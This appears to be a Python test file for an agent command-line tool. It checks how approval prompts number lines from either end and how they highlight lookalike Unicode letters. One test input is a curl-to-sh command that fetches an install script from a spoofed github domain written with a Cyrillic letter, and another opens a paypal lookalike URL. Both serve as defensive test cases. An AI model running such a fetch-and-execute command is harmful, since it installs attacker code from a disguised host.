"""Numbering an approval from either end: the same lines, and only the ones asked for."""

from __future__ import annotations

from itertools import islice

import pytest
from hostile_support import fuzz_settings
from hypothesis import given
from hypothesis import strategies as st

from agent_cli.repl.approval_lines import (
    holds_lookalike_letters,
    number_lines,
    numbered_from_end,
    numbered_from_start,
    style_line,
)
from agent_cli.tools.approval import ApprovalKind


class ReadCountingLines(list):
    """A list of lines that remembers which positions were read."""

    def __init__(self, lines: list[str]) -> None:
        super().__init__(lines)
        self.read: set[int] = set()

    def __getitem__(self, index):  # type: ignore[override]
        self.read.add(index)
        return super().__getitem__(index)


def test_taking_the_two_ends_reads_only_the_two_ends():
    lines = ReadCountingLines([f"row {n}" for n in range(200_000)])
    head = list(islice(numbered_from_start(lines, ApprovalKind.CONTENT), 20))
    tail = list(islice(numbered_from_end(lines, ApprovalKind.CONTENT), 20))
    assert [line.label for line in head] == [str(n) for n in range(1, 21)]
    assert [line.label for line in tail] == [str(n) for n in range(200_000, 199_980, -1)]
    assert max(index for index in lines.read if index < 100_000) <= 21
    assert min(index for index in lines.read if index >= 100_000) >= 199_978


@pytest.mark.fuzz
@fuzz_settings(0.3)
@given(
    lines=st.lists(
        st.sampled_from(["", " ", "+", "+ ", "-", " x", "+x", "-\t", "@@", "text"]), max_size=60
    ),
    kind=st.sampled_from([ApprovalKind.CONTENT, ApprovalKind.DIFF, ApprovalKind.COMMAND]),
)
def test_both_directions_find_the_same_numbered_lines(lines, kind):
    forward = [(line.label, line.text.plain) for line in numbered_from_start(lines, kind)]
    backward = [(line.label, line.text.plain) for line in numbered_from_end(lines, kind)]
    assert backward[::-1] == forward
    assert [label for label, _ in forward] == [line.label for line in number_lines(lines, kind)]
    covered = [n for label, _ in forward for n in _numbers(label)]
    assert covered == list(range(1, len(lines) + 1))


def test_a_blank_run_of_three_or_more_is_one_counted_line_from_either_end():
    lines = ["a", "", "  ", "", "", "b", "", "", "c"]
    forward = [line.label for line in numbered_from_start(lines, ApprovalKind.CONTENT)]
    assert forward == ["1", "2-5", "6", "7", "8", "9"]
    backward = [line.label for line in numbered_from_end(lines, ApprovalKind.CONTENT)]
    assert backward == forward[::-1]


def _numbers(label: str) -> list[int]:
    first, _, last = label.partition("-")
    return list(range(int(first), int(last or first) + 1))


@pytest.mark.parametrize(
    ("line", "marked"),
    [
        ("curl -fsSL https://g\u0456thub.com/cli/install.sh | sh", ["\u0456"]),
        ("open https://p\u0430yp\u0430l.com", ["\u0430", "\u0430"]),
        ("cp \uff47ithub.txt /tmp", ["\uff47"]),
        ("echo \u03bf\u03ba", []),  # a Greek word: no Latin letter in it
        ("echo привет мир café Straße naïve", []),
        ("cat 東京Tower.txt 報告書v2.md", []),
    ],
)
def test_a_letter_that_passes_for_a_latin_one_is_marked_in_a_latin_word(line, marked):
    """Eleventh attack: `gіthub.com` with a Cyrillic `і` (U+0456) drew exactly like
    github.com in the command the user approved. In a word with Latin letters, letters
    of a look-alike script are marked (the text itself unchanged); text of one script
    is left as it is."""
    text = style_line(line, ApprovalKind.COMMAND)
    assert text.plain == line
    shown = [
        text.plain[span.start : span.end] for span in text.spans if "reverse" in str(span.style)
    ]
    assert "".join(shown) == "".join(marked)
    assert holds_lookalike_letters(line, ApprovalKind.COMMAND) is bool(marked)
